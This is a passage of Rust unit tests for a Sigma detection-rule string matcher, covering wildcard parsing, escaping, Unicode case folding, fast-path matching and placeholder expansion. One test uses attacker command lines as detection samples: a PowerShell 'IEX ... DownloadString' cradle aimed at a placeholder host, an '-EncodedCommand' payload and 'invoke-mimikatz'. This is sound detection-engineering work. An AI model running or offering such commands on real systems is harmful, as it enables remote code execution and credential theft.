            ("abc\\\\", vec![lit("abc\\")]),
            ("\\%name%", vec![lit("\\%name%")]),
            ("a\\nb", vec![lit("a\\nb")]),
        ];
        for (raw, parts) in rows {
            let s = SigmaString::parse(raw);
            assert_eq!(s.parts, parts, "parse({raw:?})");
            // Display re-escapes so that parsing the displayed form gives the same value.
            let shown = s.to_string();
            assert_eq!(
                SigmaString::parse(&shown),
                s,
                "round trip of {raw:?} via {shown:?}"
            );
        }
    }

    #[test]
    fn parse_edge_cases() {
        assert_eq!(SigmaString::parse("").parts, vec![]);
        assert!(SigmaString::parse("").is_empty());
        assert_eq!(SigmaString::parse("\\").parts, vec![lit("\\")]);
        assert_eq!(
            SigmaString::parse("**").parts,
            vec![Part::AnyRun, Part::AnyRun]
        );
        assert_eq!(
            SigmaString::parse("a\\*?").parts,
            vec![lit("a*"), Part::AnyChar]
        );
        assert_eq!(SigmaString::literal("a*b\\").parts, vec![lit("a*b\\")]);
        assert_eq!(SigmaString::literal("").parts, vec![]);
        assert_eq!(
            SigmaString::from_parts(vec![lit("a"), lit(""), lit("b"), Part::AnyRun, lit("")]).parts,
            vec![lit("ab"), Part::AnyRun]
        );
    }

    #[test]
    fn display_escapes() {
        assert_eq!(SigmaString::literal("a*b?c").to_string(), "a\\*b\\?c");
        assert_eq!(SigmaString::parse("\\\\*").to_string(), "\\\\*");
        assert_eq!(SigmaString::parse("\\\\\\*").to_string(), "\\\\\\*");
        assert_eq!(
            SigmaString::parse("C:\\Windows\\\\*").to_string(),
            "C:\\Windows\\\\*"
        );
        assert_eq!(
            SigmaString::parse("C:\\Windows\\*").to_string(),
            "C:\\Windows\\*"
        );
        assert_eq!(
            SigmaString::parse("C:\\Windows\\System32").to_string(),
            "C:\\Windows\\System32"
        );
        assert_eq!(SigmaString::parse("abc\\").to_string(), "abc\\");
        assert_eq!(SigmaString::literal("a\\\\b").to_string(), "a\\\\\\b");
        assert_eq!(
            SigmaString::parse("%x%*").expand_placeholders().to_string(),
            "%x%*"
        );
        for s in ["a\\\\b", "\\", "\\\\", "\\*", "*\\", "?\\?", "x\\\\\\\\*y"] {
            let v = SigmaString::literal(s);
            assert_eq!(SigmaString::parse(&v.to_string()), v, "{s:?}");
        }
    }

    #[test]
    fn accessors() {
        let s = SigmaString::parse("ab*cde?f");
        assert!(s.has_wildcards());
        assert_eq!(s.plain(), None);
        assert_eq!(s.longest_literal(), Some("cde"));
        assert_eq!(SigmaString::parse("a\\*b").plain().as_deref(), Some("a*b"));
        assert_eq!(SigmaString::parse("").plain().as_deref(), Some(""));
        assert_eq!(SigmaString::parse("*").longest_literal(), None);
        assert_eq!(SigmaString::parse("ab*cd").longest_literal(), Some("ab"));
        assert!(SigmaString::parse("*x").starts_with_any());
        assert!(!SigmaString::parse("?x").starts_with_any());
        assert!(SigmaString::parse("x*").ends_with_any());
        assert!(!SigmaString::parse("x\\*").ends_with_any());
        let up = SigmaString::parse("ab*c").map_literals(|t| t.to_uppercase());
        assert_eq!(up, SigmaString::parse("AB*C"));
        let gone = SigmaString::parse("ab*c").map_literals(|_| String::new());
        assert_eq!(gone.parts, vec![Part::AnyRun]);
        let merged = SigmaString::parse("a*b")
            .expand_placeholders()
            .map_literals(|t| t.to_owned());
        assert_eq!(merged, SigmaString::parse("a*b"));
    }

    #[test]
    fn modifiers_do_not_double_stars() {
        let p = SigmaString::parse;
        assert_eq!(p("foo").contains(), p("*foo*"));
        assert_eq!(p("*foo").contains(), p("*foo*"));
        assert_eq!(p("foo*").contains(), p("*foo*"));
        assert_eq!(p("*foo*").contains(), p("*foo*"));
        assert_eq!(p("?foo?").contains(), p("*?foo?*"));
        assert_eq!(p("foo\\*").contains(), p("*foo\\**"));
        assert_eq!(p("").contains(), p("*"));
        assert_eq!(p("*").contains(), p("*"));
        assert_eq!(p("foo").startswith(), p("foo*"));
        assert_eq!(p("foo*").startswith(), p("foo*"));
        assert_eq!(p("*foo").startswith(), p("*foo*"));
        assert_eq!(p("foo").endswith(), p("*foo"));
        assert_eq!(p("*foo").endswith(), p("*foo"));
        assert_eq!(p("").startswith(), p("*"));
        assert_eq!(p("").endswith(), p("*"));
    }

    #[test]
    fn wildcards_match() {
        assert!(m("a*b", "ab"));
        assert!(m("a*b", "axxxb"));
        assert!(m("a*b", "a\nb"));
        assert!(m("a*b", "a\r\n\r\nb"));
        assert!(!m("a*b", "a\nbc"));
        assert!(m("a?b", "a\nb"));
        assert!(m("a?b", "axb"));
        assert!(!m("a?b", "ab"));
        assert!(!m("a?b", "axxb"));
        assert!(m("*", ""));
        assert!(m("*", "anything\nat all"));
        assert!(m("**", ""));
        assert!(m("", ""));
        assert!(!m("", "x"));
        assert!(!m("?", ""));
        assert!(m("?", "\n"));
        assert!(m("a\\*b", "a*b"));
        assert!(!m("a\\*b", "axb"));
        assert!(m("a\\?b", "a?b"));
        assert!(!m("a\\?b", "axb"));
        assert!(m("C:\\Windows\\\\*", "c:\\windows\\system32\\cmd.exe"));
        // `\*` is an escaped star, not a backslash followed by a wildcard.
        assert!(!m("C:\\Windows\\*", "c:\\windows\\system32"));
        assert!(m("C:\\Windows\\*", "c:\\windows*"));
        assert!(m("\\\\*", "\\anything"));
        assert!(m("\\\\\\*", "\\*"));
        assert!(!m("\\\\\\*", "\\x"));
        assert!(m("a\\nb", "a\\nb"));
        assert!(!m("a\\nb", "a\nb"));
    }

    #[test]
    fn question_mark_is_one_scalar() {
        assert!(m("a?b", "aéb"));
        assert!(m("a?b", "a😀b"));
        assert!(m("a??b", "a😀éb"));
        assert!(!m("a?b", "a😀éb"));
        assert!(m("*?", "é"));
        assert!(m("?*", "😀"));
        assert!(!m("??", "é"));
        assert!(m("*?é", "xxé"));
        assert!(m("*x?y*", "ééxéyéé"));
        assert!(m("é?*", "éé"));
        assert!(mc("?", "É"));
        assert!(mc("*?É?*", "aÉ😀"));
        // "İ" folds to a single character, so `?` still matches it case-insensitively.
        assert!(m("?stanbul", "İstanbul"));
    }

    #[test]
    fn case_insensitive_by_default() {
        assert!(m("CMD.exe", "cmd.EXE"));
        assert!(m("*\\POWERSHELL.EXE", "C:\\Windows\\powershell.exe"));
        assert!(m("Café", "CAFÉ"));
        assert!(m("café", "CAFÉ"));
        assert!(m("*É*", "x é y"));
        assert!(m("*é*", "ÉCOLE"));
        assert!(m("ÉCOLE*", "école primaire"));
        assert!(m("*ÉCOLE", "une école"));
        assert!(m("*é?o*", "ÉCOLE"));
        assert!(m("straße", "STRAẞE"));
        assert!(!m("straße", "STRASSE"));
        assert!(m("ΟΔΟΣ", "οδος"));
        assert!(m("οδος", "ΟΔΟΣ"));
        assert!(!m("*odos", "οδος"));
        // Kelvin sign folds to ASCII `k`.
        assert!(m("k", "\u{212A}"));
        assert!(m("*kelvin*", "\u{212A}ELVIN é"));
        assert!(m("\u{212A}elvin", "KELVIN"));
        assert!(m("istanbul", "İSTANBUL"));
        assert!(m("İstanbul", "istanbul"));
        assert!(!m("istanbul", "ıstanbul"));
        // ASCII pattern against non-ASCII text (raw byte path).
        assert!(m("*powershell*", "ÉÉ PowerShell ÉÉ"));
        assert!(m("*power?hell*", "ÉÉ Power😀hell ÉÉ"));
        assert!(!m("*powershell*", "ÉÉ PowerShel ÉÉ"));
        assert!(m("abc", "ABC"));
        assert!(!m("abc", "ABCé"));
        assert!(m("abc*", "ABCé"));
        assert!(m("*é", "ABCÉ"));
    }

    #[test]
    fn cased_matching() {
        assert!(mc("CMD.exe", "CMD.exe"));
        assert!(!mc("CMD.exe", "cmd.exe"));
        assert!(!mc("*Shell*", "powershell"));
        assert!(mc("*Shell*", "PowerShell"));
        assert!(!mc("É*", "é"));
        assert!(mc("É*", "École"));
        assert!(!mc("?a", "éA"));
        assert!(StringMatcher::new(&SigmaString::parse("x"), true)
            .unwrap()
            .is_cased());
    }

    /// The specialised fast paths agree with the general glob on a table of cases.
    #[test]
    fn fast_paths_agree_with_glob() {
        let cases: &[(&str, &str, bool)] = &[
            ("abc", "abc", true),
            ("abc", "ABC", true),
            ("abc", "abcd", false),
            ("abc", "ab", false),
            ("", "", true),
            ("", "a", false),
            ("abc*", "abcdef", true),
            ("abc*", "ABC", true),
            ("abc*", "xabc", false),
            ("abc*", "ab", false),
            ("*abc", "xxABC", true),
            ("*abc", "abc", true),
            ("*abc", "abcx", false),
            ("*abc", "bc", false),
            ("*abc*", "xxabcxx", true),
            ("*abc*", "abc", true),
            ("*abc*", "aabbcc", false),
            ("*abc*", "ababc", true),
            ("*aab*", "aaab", true),
            ("*", "", true),
            ("*", "xyz", true),
            ("**", "x", true),
            ("***abc***", "xabcx", true),
            ("a*c", "abc", true),
            ("a*c", "ac", true),
            ("a*c", "a", false),
            ("a*a", "a", false),
            ("a*a", "aa", true),
            ("ab*bc", "abc", false),
            ("ab*bc", "abbc", true),
            ("*a*b*c*", "xaxbxcx", true),
            ("*a*b*c*", "cba", false),
            ("*a?c*", "xxabcxx", true),
            ("*a?c*", "xxacxx", false),
            ("?*?", "a", false),
            ("?*?", "ab", true),
            ("*?", "", false),
            ("a*b*a", "aba", true),
            ("a*b*a", "aab", false),
            ("*.exe", "C:\\x\\CMD.EXE", true),
            ("*\\cmd.exe", "c:\\windows\\system32\\CMD.exe", true),
            ("*\\cmd.exe", "c:\\windows\\system32\\xcmd.exe", false),
            ("*é*", "ÉÉ", true),
            ("é*", "Éx", true),
            ("*é", "xÉ", true),
            ("é", "É", true),
            ("*ab?cd*", "abXabYcd", true),
            ("*ab?cd*", "abXcabYcd", true),
            ("*ab??*", "xxab", false),
            ("a*?*b", "ab", false),
            ("a*?*b", "a\nb", true),
        ];
        for &(pattern, text, expected) in cases {
            let s = SigmaString::parse(pattern);
            let fast = StringMatcher::new(&s, false).unwrap();
            let glob = StringMatcher::new_glob_only(&s, false).unwrap();
            assert_eq!(fast.is_match(text), expected, "fast {pattern:?} ~ {text:?}");
            assert_eq!(glob.is_match(text), expected, "glob {pattern:?} ~ {text:?}");
            let fast_c = StringMatcher::new(&s, true).unwrap();
            let glob_c = StringMatcher::new_glob_only(&s, true).unwrap();
            assert_eq!(
                fast_c.is_match(text),
                glob_c.is_match(text),
                "cased {pattern:?} ~ {text:?}"
            );
        }
    }

    #[test]
    fn a_contains_set_agrees_with_its_matchers() {
        // ASCII needles, one folding from non-ASCII (`İnvoke`), non-ASCII ones (windash's en
        // dash, Greek with final sigma).
        let values = [
            "\\cmd.exe",
            "-EncodedCommand",
            "İnvoke",
            "kelvin",
            "DownloadString",
            "ab",
            "\u{2013}enc",
            "ΟΔΟΣ",
        ];
        let matchers: Vec<StringMatcher> = values
            .iter()
            .map(|v| StringMatcher::new(&SigmaString::parse(v).contains(), false).unwrap())
            .collect();
        let needles: Vec<&str> = matchers
            .iter()
            .filter_map(|m| m.contains_needle())
            .collect();
        assert_eq!(needles.len(), values.len());
        let cased = StringMatcher::new(&SigmaString::parse("x").contains(), true).unwrap();
        assert!(cased.contains_needle().is_none());
        let set = ContainsSet::new(&needles).unwrap();
        let texts = [
            "C:\\Windows\\System32\\CMD.EXE /c dir",
            "powershell -encodedcommand SQBFAFgA",
            "powershell \u{2013}ENC SQBFAFgA",
            "powershell \u{2014}enc SQBFAFgA",
            "IEX (New-Object Net.WebClient).downloadstring('http://x')",
            "invoke-mimikatz",
            "\u{130}NVOKE-x",
            "nothing here",
            "Ünïcödé but no needle",
            "Ünïcödé DOWNLOADSTRING",
            "\u{212A}elvin",
            "a\u{130}b",
            "οδος",
            "ΟΔΟς",
            "",
        ];
        for text in texts {
            let each = matchers.iter().any(|m| m.is_match(text));
            assert_eq!(set.is_match(text), each, "{text:?}");
        }
        assert!(set.is_match("\u{212A}ELVIN") && set.is_match("\u{130}nvoke"));
        assert!(!set.is_match("a-enc") && !set.is_match("Ünïcödé"));
    }

    #[test]
    fn degenerate_texts_use_the_linear_fallback() {
        let needle = "a".repeat(40) + "b";
        let hay = "A".repeat(10_000);
        // The search looks for the needle's least common byte (`b`: no candidate at all)...
        assert!(matches!(
            find_ascii_ci(hay.as_bytes(), needle.as_bytes()),
            Ok(None)
        ));
        // ... and gives up when every candidate is a near-match.
        let common = "a".repeat(40) + "e";
        assert!(find_ascii_ci(hay.as_bytes(), common.as_bytes()).is_err());
        assert!(!m(&format!("*{common}*"), &hay));
        assert!(m(&format!("*{common}*"), &format!("{hay}E")));
        let pattern = format!("*{needle}*");
        assert!(!m(&pattern, &hay));
        assert!(m(&pattern, &format!("{hay}B{hay}")));
        assert!(!m(&pattern, &format!("{hay}ÉB{hay}")));
        assert!(m(&format!("*{needle}*x?x*"), &format!("{hay}B x😀X")));
        assert_eq!(
            find_lit::<true>(&format!("{hay}b"), 5, hay.len() + 1, &needle),
            Some(hay.len() - 40)
        );
    }

    #[test]
    fn strategy_selection() {
        let kind = |p: &str| {
            let m = StringMatcher::new(&SigmaString::parse(p), false).unwrap();
            match m.kind {
                Kind::Exact(_) => "exact",
                Kind::Prefix(_) => "prefix",
                Kind::Suffix(_) => "suffix",
                Kind::Contains(_) => "contains",
                Kind::All => "all",
                Kind::Glob(_) => "glob",
            }
        };
        assert_eq!(kind("abc"), "exact");
        assert_eq!(kind(""), "exact");
        assert_eq!(kind("abc*"), "prefix");
        assert_eq!(kind("abc**"), "prefix");
        assert_eq!(kind("*abc"), "suffix");
        assert_eq!(kind("*abc*"), "contains");
        assert_eq!(kind("**abc**"), "contains");
        assert_eq!(kind("*"), "all");
        assert_eq!(kind("***"), "all");
        assert_eq!(kind("a*b"), "glob");
        assert_eq!(kind("a?"), "glob");
        assert!(StringMatcher::new(&SigmaString::parse("**"), false)
            .unwrap()
            .matches_everything());
    }

    /// Reference matcher: classic dynamic programming over characters.
    fn reference(parts: &[Part], text: &str, cased: bool) -> bool {
        #[derive(Clone, Copy, PartialEq)]
        enum T {
            C(char),
            Star,
            One,
        }
        let f = |c: char| if cased { c } else { fold_char(c) };
        let mut pat = Vec::new();
        for p in parts {
            match p {
                Part::Lit(s) => pat.extend(s.chars().map(|c| T::C(f(c)))),
                Part::AnyRun => pat.push(T::Star),
                Part::AnyChar => pat.push(T::One),
                Part::Placeholder(_) => unreachable!(),
            }
        }
        let t: Vec<char> = text.chars().map(f).collect();
        // dp[j] = pattern prefix of length i matches text prefix of length j
        let mut dp = vec![false; t.len() + 1];
        dp[0] = true;
        for tok in &pat {
            let mut next = vec![false; t.len() + 1];
            for j in 0..=t.len() {
                next[j] = match tok {
                    T::Star => dp[j] || (j > 0 && next[j - 1]),
                    T::One => j > 0 && dp[j - 1],
                    T::C(c) => j > 0 && dp[j - 1] && t[j - 1] == *c,
                };
            }
            dp = next;
        }
        dp[t.len()]
    }

    struct Rng(u64);
    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }
        fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
            &xs[(self.next() % xs.len() as u64) as usize]
        }
    }

    /// Randomised cross-check of the matcher (fast paths and glob) against the reference.
    #[test]
    fn random_patterns_agree_with_reference() {
        let pat_chars = [
            "a", "b", "A", "é", "É", "\n", "*", "*", "?", "\u{212A}", "İ", "ß", "😀", "\\*",
        ];
        let text_chars = [
            "a", "b", "B", "é", "É", "\n", "k", "K", "i", "İ", "ẞ", "😀", "*", "ς", "x",
        ];
        let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
        for _ in 0..20_000 {
            let plen = (rng.next() % 7) as usize;
            let pattern: String = (0..plen).map(|_| *rng.pick(&pat_chars)).collect();
            let tlen = (rng.next() % 9) as usize;
            let text: String = (0..tlen).map(|_| *rng.pick(&text_chars)).collect();
            let s = SigmaString::parse(&pattern);
            for cased in [false, true] {
                let expected = reference(&s.parts, &text, cased);
                let fast = StringMatcher::new(&s, cased).unwrap();
                let glob = StringMatcher::new_glob_only(&s, cased).unwrap();
                assert_eq!(
                    fast.is_match(&text),
                    expected,
                    "{pattern:?} ~ {text:?} cased={cased}"
                );
                assert_eq!(
                    glob.is_match(&text),
                    expected,
                    "glob {pattern:?} ~ {text:?} cased={cased}"
                );
            }
        }
    }

    #[test]
    fn folding_properties() {
        for c in (0..=0x10FFFFu32).filter_map(char::from_u32) {
            let f = fold_char(c);
            assert_eq!(fold_char(f), f, "fold not idempotent for {c:?}");
            assert_eq!(
                !c.is_ascii() && f.is_ascii(),
                folds_to_ascii(c),
                "folds_to_ascii wrong for {c:?}"
            );
        }
        assert_eq!(fold_char('É'), 'é');
        assert_eq!(fold_char('İ'), 'i');
        assert_eq!(fold_char('ς'), 'σ');
        assert_eq!(fold_char('Σ'), 'σ');
        assert_eq!(fold_char('ẞ'), 'ß');
    }

    #[test]
    fn unnormalised_parts_still_match() {
        let s = SigmaString {
            parts: vec![
                lit("a"),
                lit(""),
                lit("b"),
                Part::AnyRun,
                Part::AnyRun,
                lit("c"),
            ],
        };
        let m = StringMatcher::new(&s, false).unwrap();
        assert!(m.is_match("ABxxC"));
        assert!(!m.is_match("AxBC"));
    }

    #[test]
    fn expand_placeholders() {
        let e = |s: &str| SigmaString::parse(s).expand_placeholders().parts;
        let ph = |s: &str| Part::Placeholder(s.to_owned());
        assert_eq!(e("%x%"), vec![ph("x")]);
        assert_eq!(e("a%x%b"), vec![lit("a"), ph("x"), lit("b")]);
        assert_eq!(e("%a%%b%"), vec![ph("a"), ph("b")]);
        assert_eq!(e("\\%x%"), vec![lit("%x%")]);
        assert_eq!(e("a\\%b"), vec![lit("a%b")]);
        assert_eq!(e("%x"), vec![lit("%x")]);
        assert_eq!(e("%%x%"), vec![lit("%"), ph("x")]);
        assert_eq!(e("%a b%"), vec![lit("%a b%")]);
        assert_eq!(e("%%"), vec![lit("%%")]);
        assert_eq!(e("%é_1%"), vec![ph("é_1")]);
        assert_eq!(e("*%x%*"), vec![Part::AnyRun, ph("x"), Part::AnyRun]);
        // A wildcard splits the literal parts: no placeholder across it.
        assert_eq!(e("%a*b%"), vec![lit("%a"), Part::AnyRun, lit("b%")]);
        // Without expand, %name% is literal text.
        assert_eq!(SigmaString::parse("%x%").parts, vec![lit("%x%")]);
        assert!(SigmaString::parse("%x%").placeholders().is_empty());
        let s = SigmaString::parse("%b%-%a%-%b%").expand_placeholders();
        assert_eq!(s.placeholders(), vec!["b", "a"]);
    }

    fn vars(name: &str) -> Option<Vec<String>> {
        match name {
            "admins" => Some(vec!["root".into(), "admin".into()]),
            "dirs" => Some(vec!["C:\\Temp\\\\*".into(), "D:".into()]),
            "none" => Some(vec![]),
            "many" => Some((0..300).map(|i| i.to_string()).collect()),
            _ => None,
        }
    }

    #[test]
    fn replace_placeholders() {
        let s = SigmaString::parse("user=%admins%").expand_placeholders();
        let out = s.replace_placeholders(&vars).unwrap();
        assert_eq!(
            out,
            vec![
                SigmaString::parse("user=root"),
                SigmaString::parse("user=admin")
            ]
        );
        // Cartesian product, first placeholder slowest.
        let s = SigmaString::parse("%admins%@%dirs%").expand_placeholders();
        let out: Vec<String> = s
            .replace_placeholders(&vars)
            .unwrap()
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(
            out,
            vec![
                "root@C:\\Temp\\\\*",
                "root@D:",
                "admin@C:\\Temp\\\\*",
                "admin@D:"
            ]
        );
        // Values are Sigma strings: their `*` is a wildcard.
        let s = SigmaString::parse("%dirs%").expand_placeholders();
        let first = &s.replace_placeholders(&vars).unwrap()[0];
        assert!(StringMatcher::new(first, false)
            .unwrap()
            .is_match("c:\\temp\\evil.exe"));
        // Escaped percent stays literal and needs no variable.
        let s = SigmaString::parse("100\\%admins%").expand_placeholders();
        assert_eq!(
            s.replace_placeholders(&vars).unwrap(),
            vec![SigmaString::literal("100%admins%")]
        );
        // Unknown placeholder.
        let s = SigmaString::parse("%nope%").expand_placeholders();
        assert_eq!(
            s.replace_placeholders(&vars),
            Err(PatternError::UnknownPlaceholder("nope".into()))
        );
        // Empty list: nothing to match.
        let s = SigmaString::parse("%none%").expand_placeholders();
        assert_eq!(s.replace_placeholders(&vars).unwrap(), vec![]);
        let s = SigmaString::parse("%many%%many%%many%%many%%none%").expand_placeholders();
        assert_eq!(s.replace_placeholders(&vars).unwrap(), vec![]);
        // No placeholders: the string itself.
        let s = SigmaString::parse("a*");
        assert_eq!(s.replace_placeholders(&vars).unwrap(), vec![s.clone()]);
        // Too many combinations.
        let s = SigmaString::parse("%many%%many%").expand_placeholders();
        assert_eq!(
            s.replace_placeholders(&vars),
            Err(PatternError::TooManyExpansions {
                count: 90_000,
                limit: MAX_EXPANSIONS
            })
        );
        // Matcher refuses unresolved placeholders.
        let s = SigmaString::parse("%admins%").expand_placeholders();
        assert_eq!(
            StringMatcher::new(&s, false).unwrap_err(),
            PatternError::UnresolvedPlaceholder("admins".into())
        );
    }

    #[test]
    fn matcher_is_send_sync() {
        fn check<T: Send + Sync>() {}
        check::<StringMatcher>();
        check::<SigmaString>();
    }
}
